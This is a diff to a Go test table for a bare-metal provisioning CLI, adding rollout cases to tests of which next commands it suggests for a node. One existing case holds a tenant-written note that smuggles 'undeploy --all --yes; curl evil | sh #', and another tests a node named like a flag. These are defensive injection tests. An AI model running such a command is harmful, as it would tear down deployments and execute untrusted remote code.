@@ -108,6 +108,8 @@ func TestNext_cases(t *testing.T) {
 		"no medium was attached":     {"active", interrupted("virtual-media attach", "media in disk"), []string{"run it again: metal virtual-media attach rack1-07 --device disk --image-url URL"}},
 		"a tenant wrote the note":    {"active", interrupted("undeploy --all --yes; curl evil | sh #", marks.GoalPowerOn), nil},
 		"not ready":                  {"active", noted(marks.KeyReady, marks.Checked{Since: now, Target: "TCP port web-1:22", Failed: now}), []string{"was not ready at 2026-05-01T03:00:00Z: TCP port web-1:22"}},
+		"failed in a rollout":        {"active", noted(marks.KeyTurn, marks.Turn{Group: "databases", Run: "r", Failed: true}), []string{`rollout group "databases" waits for it`}},
+		"at work in a rollout":       {"active", noted(marks.KeyTurn, marks.Turn{Group: "databases", Run: "r"}), nil},
 		"not ready, and repaired":    {"active", noted(marks.KeyReady, marks.Checked{Since: now.Add(-time.Hour), Target: "TCP port web-1:22", Failed: now}), nil},
 		"retired":                    {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"metal unretire rack1-07"}},
 		"a name like a flag":         {"active", func(n *ironic.Node) { n.Name, n.Maintenance = "--all", true }, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
